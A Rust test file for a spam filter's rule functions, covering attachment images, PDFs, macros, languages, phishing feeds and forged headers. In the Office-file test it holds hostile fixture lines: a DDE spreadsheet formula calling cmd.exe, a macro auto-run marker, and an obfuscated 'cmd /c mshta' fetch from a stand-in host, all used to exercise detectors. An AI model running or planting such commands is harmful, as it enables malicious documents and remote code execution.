//! Native functions of stock rules, on small messages.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::tests::{check, envelope};
use super::*;
use crate::mail::Direction;
use crate::message::parse;

/// A message with an attached file.
fn with_file(media_type: &str, name: &str, bytes: &[u8]) -> String {
    format!(
        "From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\
         Content-Type: text/plain\n\nSee here.\n\n--b\nContent-Type: {media_type}; name=\"{name}\"\n\
         Content-Disposition: attachment; filename=\"{name}\"\nContent-Transfer-Encoding: base64\n\n{}\n--b--\n",
        STANDARD.encode(bytes)
    )
}

/// Runs tests of one function, a rule each: which of the arguments hit.
fn hits(function: &str, arguments: &[&str], mail: &str, expected: &[bool]) {
    let name = |index: usize| format!("RULE_{index}");
    let rules: Vec<_> = arguments
        .iter()
        .enumerate()
        .map(|(index, arguments)| format!("body {} eval:{function}({arguments})", name(index)))
        .collect();
    let expected: Vec<_> =
        (0..).zip(expected).filter(|(_, hit)| **hit).map(|(index, _)| name(index)).collect();
    check(&rules.join("\n"), mail, &expected.iter().map(String::as_str).collect::<Vec<_>>());
}

#[test]
fn pictures_are_counted_and_measured() {
    let mut file = std::io::Cursor::new(Vec::new());
    image::RgbImage::new(264, 127).write_to(&mut file, image::ImageFormat::Gif).unwrap();
    let mail = with_file("image/gif", "one.gif", &file.into_inner());
    hits(
        "image_count",
        &["'gif',1,1", "'all','1'", "'png',1", "'gif',2"],
        &mail,
        &[true, true, false, false],
    );
    hits("image_size_exact", &["'gif',127,264", "'gif',264,127"], &mail, &[true, false]);
    hits("image_size_range", &["'all',100,200,130,300", "'all',128,1"], &mail, &[true, false]);
    hits("pixel_coverage", &["'gif',33528,33528", "'gif',33529", "'jpeg',0"], &mail, &[true, false, true]);
    hits("image_to_text_ratio", &["'gif',0.0001,0.001", "'gif',0,0.0001"], &mail, &[true, false]);
    hits("image_named", &["'one.gif'", "'two.gif'"], &mail, &[true, false]);
    hits("image_name_regex", &["'^one\\.'", "'/^ONE/'"], &mail, &[true, false]);
    // What is no picture has no size.
    let mail = with_file("image/gif", "one.gif", b"no picture");
    hits("image_count", &["'gif',1,1"], &mail, &[true]);
    hits("image_named", &["'one.gif'"], &mail, &[false]);
}

#[test]
fn pdf_files_say_what_made_them() {
    let file = b"%PDF-1.4\n<</Producer(GPL Ghostscript 8.15)\n/CreationDate(D:20070703144220)\n\
        /Title<FEFF0057>\n/Author(\\376\\377\\000H\\000P)>>endobj\n<</Type/XObject/Subtype/Image/Width 630/Height 149>>\n\
        stream\n/Encrypt 1\n";
    let mail = with_file("application/octet-stream", "my.PDF", file);
    hits("pdf_count", &["1,1", "2"], &mail, &[true, false]);
    hits("pdf_image_count", &["1,1", "2"], &mail, &[true, false]);
    hits("pdf_image_size_exact", &["149,630", "630,149"], &mail, &[true, false]);
    hits("pdf_image_size_range", &["100,450,240,800", "150,1"], &mail, &[true, false]);
    hits("pdf_pixel_coverage", &["1,100000", "1,1000"], &mail, &[true, false]);
    hits("pdf_image_to_text_ratio", &["0,0.001", "0.5,1"], &mail, &[true, false]);
    hits("pdf_named", &["'my.PDF'", "'my.pdf'"], &mail, &[true, false]);
    hits("pdf_name_regex", &["'/^my\\.pdf$/i'", "'/^my\\.pdf$/'"], &mail, &[true, false]);
    hits("pdf_is_encrypted", &[""], &mail, &[true]);
    hits("pdf_is_empty_body", &["", "100"], &mail, &[false, true]);
    hits(
        "pdf_match_details",
        &[
            "'producer','/^GPL/'",
            "'created','/^200707/'",
            "'title','/^W$/'",
            "'author','/^HP$/'",
            "'title','/x/'",
        ],
        &mail,
        &[true, true, true, true, false],
    );
    let plain = "From: a@example.org\n\n%PDF-1.4\n";
    hits("pdf_count", &["1", "0,0"], plain, &[false, true]);
    hits("pdf_is_empty_body", &["100"], plain, &[false]);
}

#[test]
fn checksums_of_pdf_files_are_those_of_their_bytes_and_lines() {
    use md5::{Digest, Md5};
    let hex = |bytes: &[u8]| Md5::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let file = b"%PDF-1.0\nfirst \n/Width 9\n/Title (x)\n";
    let mail = with_file("application/pdf", "a.pdf", file);
    hits("pdf_match_md5", &[&format!("'{}'", hex(file)), "'00'"], &mail, &[true, false]);
    // Lines without comments and sizes; the names that lines begin with.
    let (lines, names) = (hex(b"first/Title (x)"), hex(b"WidthTitle"));
    hits(
        "pdf_match_fuzzy_md5",
        &[&format!("'{lines}'"), &format!("'{names}'"), "'00'"],
        &mail,
        &[true, true, false],
    );
}

#[test]
fn office_files_say_what_they_run() {
    let rich = with_file("application/rtf", "a.rtf", b"{\\rtf1\\objdata 0105}");
    let rules =
        "body A eval:check_olertfobject()\nbody B eval:check_oleobject()\nbody C eval:check_olemacro()";
    check(rules, &rich, &["A"]);
    let wide: Vec<u8> = "_VBA_PROJECT".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let document = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", wide.as_slice(), b"Document_Open"].concat();
    let rules = "body A eval:check_olemacro()\nbody B eval:check_olemacro_malice()\n\
        body C eval:check_olemacro_renamed()\nbody D eval:check_olemacro_encrypted()";
    check(rules, &with_file("application/msword", "a.doc", &document), &["A", "B"]);
    check(rules, &with_file("application/octet-stream", "a.txt", &document), &["A", "B", "C"]);
    let sheet = b"=MSEXCEL|'\\..\\Windows\\System32\\cmd.exe'!x";
    check("body A eval:check_olemacro_csv()", &with_file("text/csv", "a.csv", sheet), &["A"]);
    check("body A eval:check_olemacro_csv()", &with_file("text/plain", "a.txt", sheet), &[]);
    let marker = with_file("application/msword", "a.doc", b"cmd /c ms^h^ta ht^tps:/^/a.example");
    check("body A eval:check_olemacro_download_exe()", &marker, &["A"]);
}

#[test]
fn languages_and_scripts_are_welcome_or_not() {
    let german = "From: a@example.org\nSubject: x\n\nSehr geehrte Damen und Herren, anbei erhalten Sie die gewünschten \
        Unterlagen zu unserem Gespräch von gestern Nachmittag.\n";
    check("ok_languages en\nbody A eval:check_language()", german, &["A"]);
    check("ok_languages en de\nbody A eval:check_language()", german, &[]);
    check("ok_languages all\nbody A eval:check_language()", german, &[]);
    check("ok_languages en\nbody A eval:check_language()", "From: a@example.org\n\nOk.\n", &[]);
    check("header A X-Languages =~ /^de$/", german, &["A"]);
    let russian = "From: =?koi8-r?Q?=C1?= <a@example.org>\nContent-Type: text/plain; charset=koi8-r\n\nx\n";
    let rules =
        "body A eval:check_for_faraway_charset()\nheader B eval:check_for_faraway_charset_in_headers()";
    check(&format!("ok_locales en\n{rules}"), russian, &["A", "B"]);
    check(&format!("ok_locales en ru\n{rules}"), russian, &[]);
    check(rules, russian, &[]);
    let page = "From: a@example.org\nContent-Type: text/html\n\n<meta charset=gb2312>x\n";
    check("ok_locales en\nbody A eval:html_charset_faraway()", page, &["A"]);
    let bytes = "From: a@example.org\nContent-Type: text/plain; charset=utf-8\n\nпривет\n";
    check("ok_languages en\nbody A eval:check_body_8bits()", bytes, &["A"]);
    check("ok_languages en ru\nbody A eval:check_body_8bits()", bytes, &[]);
}

#[test]
fn shortened_links_are_told_by_their_host() {
    let rules = "url_shortener sho.rt .page.example\nbody A eval:short_url()";
    let mail = |link: &str| format!("From: a@example.org\n\nsee {link} now\n");
    for (link, is_hit) in [
        ("https://sho.rt/abc", true),
        ("https://www.sho.rt/", true),
        ("https://sho.rt/", false),
        ("https://any.page.example/", true),
        ("https://page.example/abc", false),
        ("https://notsho.rt/abc", false),
        ("https://a.b.page.example/x", false),
    ] {
        check(rules, &mail(link), if is_hit { &["A"] } else { &[] });
    }
}

#[test]
fn links_on_a_list_of_phishing_addresses_are_told() {
    let check_with = |statements: &str, role: &'static str, list: &str, link: &str, warnings: usize| {
        let rules = format!("{statements}\nbody A eval:check_phishing()");
        let feed = Source { role: Role::Feed(role), ..Source::new("rules/feed.txt", list.as_bytes()) };
        let (set, problems) = RuleSet::compile(&[Source::new("rules/a.cf", rules.as_bytes()), feed]);
        assert_eq!(problems.len(), warnings, "{problems:?}");
        let raw = format!("From: a@example.org\r\n\r\nsee {link} now\r\n");
        let (message, envelope) = (parse(raw.as_bytes()), envelope(Direction::Inbound, "", &[]));
        !set.evaluate(&Subject::new(&message, raw.as_bytes(), &envelope)).findings.is_empty()
    };
    let check = |statements: &str, role, list: &str, link: &str| check_with(statements, role, list, link, 0);
    let (open, tank, stats) =
        ("phishing_openphish_feed", "phishing_phishtank_feed", "phishing_phishstats_feed");
    let list = "# known\nhttps://bad.example/login?id=1\nnonsense\n";
    let named = "phishing_openphish_feed feed.txt";
    assert!(check(named, open, list, "https://bad.example/login?id=1"));
    assert!(check(named, open, list, "HTTPS://BAD.example:443/login?id=1#top"));
    assert!(!check(named, open, list, "https://bad.example/login?id=2"));
    assert!(!check("", open, list, "https://bad.example/login?id=1"));
    let elsewhere = "phishing_openphish_feed other/feed.txt";
    assert!(!check_with(elsewhere, open, list, "https://bad.example/login?id=1", 1));
    let without = "phishing_openphish_feed feed.txt\nphishing_uri_noparam 1";
    assert!(!check(without, open, list, "https://bad.example/login?id=2"));
    assert!(check(without, open, "https://bad.example/a/login?id=1", "https://bad.example/a/login?id=2"));
    let list = "phish_id,url,when\n7,\"https://bad.example/x\",now\n";
    assert!(check("phishing_phishtank_feed ./feed.txt", tank, list, "https://bad.example/x"));
    let list = "\"now\",\"9.1\",\"https://bad.example/x\"\n\"now\",\"2\",\"https://fair.example/x\"\n";
    let named = "phishing_phishstats_feed feed.txt";
    assert!(check(named, stats, list, "https://bad.example/x"));
    assert!(!check(named, stats, list, "https://fair.example/x"));
    let source = Source::new("rules/a.cf", b"phishing_phishtank_feed lists/tank.csv # hourly\n");
    assert_eq!(source.feeds(), [(Role::Feed(tank), "rules/lists/tank.csv".to_owned())]);
}

#[test]
fn forgeries_of_programs_and_ways_are_told() {
    let rules = "header A eval:check_ratware_name_id()\nheader B eval:check_ratware_envelope_from()";
    let mail = "From: \"X\" <x@b.example>\nTo: bounce@example.org\n\
        Message-ID: <ABCDEFGHIJKLMNOPQRSTUVWXYZAB.x@b.example>\n\nx\n";
    check(rules, mail, &["A"]);
    // The envelope's reverse-path is bounce@example.org.
    let rules = "header A eval:check_ratware_envelope_from()";
    let from = |path: &str| format!("Return-Path: <{path}>\nTo: jo@b.com\nFrom: a@b.example\n\nx\n");
    check(rules, &from("list-b.com-jo@c.example"), &[]);
    let hits_from = |path: &str| {
        let raw = from(path).replace('\n', "\r\n");
        let (set, message) =
            (RuleSet::compile(&[Source::new("a.cf", rules.as_bytes())]).0, parse(raw.as_bytes()));
        let envelope = envelope(Direction::Inbound, path, &[]);
        !set.evaluate(&Subject::new(&message, raw.as_bytes(), &envelope)).findings.is_empty()
    };
    assert!(hits_from("list-b.com=jo@c.example"));
    assert!(
        !hits_from("SRS0=b.com=jo@c.example") && !hits_from("xb.com=jo@c.example") && !hits_from("jo@b.com")
    );
    let hop = |name: &str, by: &str| {
        format!(
            "Received: from {name} ({name} [203.0.113.9]) by {by} with SMTP id 1; Mon, 1 Jan 2024 10:00:00 +0000\n"
        )
    };
    let broken = [
        hop("a.one.example", "mx.two.example"),
        hop("b.three.example", "mx.four.example"),
        hop("c.five.example", "mx.six.example"),
    ];
    let mail = format!("{}From: a@example.org\n\nx\n", broken.concat());
    check("header A eval:check_for_forged_received_trail()", &mail, &["A"]);
    let whole = [hop("a.one.example", "mx.two.example"), hop("b.three.example", "mx.one.example")];
    let mail = format!("{}From: a@example.org\n\nx\n", whole.concat());
    check("header A eval:check_for_forged_received_trail()", &mail, &[]);
    let named = "header A eval:check_mailfrom_matches_rcvd()";
    check(named, &format!("{}From: a@b.example\n\nx\n", hop("out.example.org", "mx.two.example")), &["A"]);
    check(named, &format!("{}From: a@b.example\n\nx\n", hop("out.example.com", "mx.two.example")), &[]);
    let gated = "header A eval:gated_through_received_hdr_remover()";
    check(gated, "From: a@b.example\n\nx\n", &["A"]);
    check(gated, &format!("{}From: a@b.example\n\nx\n", hop("out.example.com", "mx.two.example")), &[]);
    let hotmail = "header A eval:check_for_no_hotmail_received_headers()";
    check(
        hotmail,
        &format!("{}From: a@hotmail.com\n\nx\n", hop("out.example.com", "mx.two.example")),
        &["A"],
    );
    check(hotmail, &format!("{}From: a@hotmail.org\n\nx\n", hop("out.example.com", "mx.two.example")), &[]);
    let aol = "header A eval:check_for_fake_aol_relay_in_rcvd()";
    check(aol, "Received: from rly-ab12.aol.example by x; now\nFrom: a@b.example\n\nx\n", &["A"]);
    check(aol, "Received: from rly-ab12.aol.example by x (v1/AOL-5.0.0); now\nFrom: a@b.example\n\nx\n", &[]);
    // 01c2eb66 are the upper half of the time of 15 March 2003, 23:53 UTC.
    let outlook = "header A eval:check_outlook_message_id()";
    let mail = |date: &str| {
        format!(
            "Message-ID: <000101c2eb66$01234567$89abcdef@a.example>\nDate: {date}\nFrom: a@b.example\n\nx\n"
        )
    };
    check(outlook, &mail("Sun, 16 Mar 2003 00:53:00 +0100"), &[]);
    check(outlook, &mail("Sun, 16 Mar 2005 00:53:00 +0100"), &["A"]);
}

#[test]
fn texts_about_shares_and_references_are_told() {
    let mail = "From: a@b.example\nContent-Type: text/plain\n\nCompany: X\nSymbol: XYZ\nPrice: 1\nCurrent Price: 2\n";
    hits("check_stock_info", &["'2'", "'3'", "'4'"], mail, &[true, true, false]);
    let mail = "From: a@b.example\nContent-Type: text/plain\n\n&#x0041;&#x0042; and words\n";
    hits("check_abundant_unicode_ratio", &["0.02", "0.5"], mail, &[true, false]);
    let mail = "From: a@b.example\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n&#x0041;\n";
    hits("check_abundant_unicode_ratio", &["0.02"], mail, &[false]);
}

#[test]
fn parts_are_compared_as_they_stand() {
    let mail = |text: &str| {
        format!(
            "From: a@b.example\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\n\
             {text}\n\n--b\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<p>1234567890</p>\n--b--\n"
        )
    };
    hits("check_mime_multipart_ratio", &["0.0,0.2", "0.9,1.1"], &mail("x"), &[true, false]);
    hits("check_mime_multipart_ratio", &["0.9,1.1"], &mail("12345678901234567"), &[true]);
    let long = "x".repeat(79);
    let mail = |encoding: &str| {
        format!(
            "From: a@b.example\nContent-Type: text/plain\nContent-Transfer-Encoding: {encoding}\n\n{long}\n"
        )
    };
    hits("check_for_mime", &["'mime_qp_long_line'"], &mail("quoted-printable"), &[true]);
    hits("check_for_mime", &["'mime_qp_long_line'"], &mail("8bit"), &[false]);
}
